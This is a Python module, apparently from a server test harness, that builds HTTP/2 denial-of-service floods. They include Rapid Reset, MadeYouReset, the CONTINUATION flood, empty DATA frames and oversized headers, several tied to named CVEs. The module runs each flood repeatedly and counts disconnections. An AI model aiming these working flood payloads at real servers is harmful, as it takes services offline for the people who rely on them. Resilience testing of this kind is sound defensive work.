"""HTTP/2 floods: each is what one attacker writes on one connection, again and again until it is thrown out."""

import multiprocessing
import struct
import time

from harness import h2client
from harness.h2client import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                              frame, head)
from harness.processes import LOAD_CORE, prepare_child

#: Frames or streams that are written in one go.
BATCH = 1000
#: Pause of an attacker that was thrown out.
RECONNECT_SECONDS = 0.01
CANCEL = struct.pack(">I", 8)
_context = multiprocessing.get_context("fork")


def _streams(first):
    return range(first, first + 2 * BATCH, 2)


def rapid_reset(host, first):
    """CVE-2023-44487: requests that are given up at once."""
    block = head(host)
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(RST_STREAM, 0, s, CANCEL) for s in _streams(first))


def made_you_reset(host, first):
    """CVE-2025-8671: requests that make the server reset them, by a window update of 0."""
    block = head(host)
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(WINDOW_UPDATE, 0, s, bytes(4)) for s in _streams(first))


def continuation(host, first):
    """CVE-2024-27316 and its family: a head that never ends."""
    return frame(HEADERS, END_STREAM, first, head(host)) + frame(CONTINUATION, 0, first, b"") * BATCH


def settings(host, first):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", h2client.INITIAL_WINDOW_SIZE, 65535)) * BATCH


def ping(host, first):
    return frame(PING, 0, 0, bytes(8)) * BATCH


def empty_data(host, first):
    """CVE-2019-9518: frames that carry nothing."""
    return frame(HEADERS, END_HEADERS, first, head(host, method="POST")) + frame(DATA, 0, first) * BATCH


def window_updates(host, first):
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * BATCH


def priorities(host, first):
    return frame(PRIORITY, 0, first, struct.pack(">IB", 0, 15)) * BATCH


def settings_acknowledgements(host, first):
    """Acknowledgements of settings that were never sent."""
    return frame(SETTINGS, ACK, 0) * BATCH


def huge_heads(host, first):
    """Heads far above any limit."""
    fields = [(f"x-{i}", "a" * 200) for i in range(70)]
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, head(host, fields=fields)) for s in _streams(first)[:20])


ALL = [rapid_reset, made_you_reset, continuation, settings, ping, empty_data, window_updates, priorities, settings_acknowledgements, huge_heads]


class Flood:
    """One attacker in a process of its own, on the load generator's core. Counts what it wrote and how often it was thrown out."""

    def __init__(self, kind, port, host):
        self._stop, self._result = _context.Event(), _context.Queue()
        self._process = _context.Process(target=self._run, args=(kind, port, host), daemon=True)
        self._process.start()

    def _run(self, kind, port, host):
        prepare_child(LOAD_CORE, priority=True)()
        batches, connections = 0, 0
        while not self._stop.is_set():
            connections += 1
            first = 1
            try:
                connection = h2client.Connection(port)
                with connection.socket:
                    while not self._stop.is_set():
                        connection.send(kind(host, first))
                        connection.drop_input()
                        batches += 1
                        first += 2 * BATCH
            except OSError:
                # New connections are another matter: so many per second are no flood.
                time.sleep(RECONNECT_SECONDS)
        self._result.put((batches, connections))

    def finish(self):
        """(batches, connections)"""
        self._stop.set()
        result = self._result.get(timeout=30)
        self._process.join()
        return result

    def end(self):
        if self._process.is_alive():
            self._process.terminate()
            self._process.join()
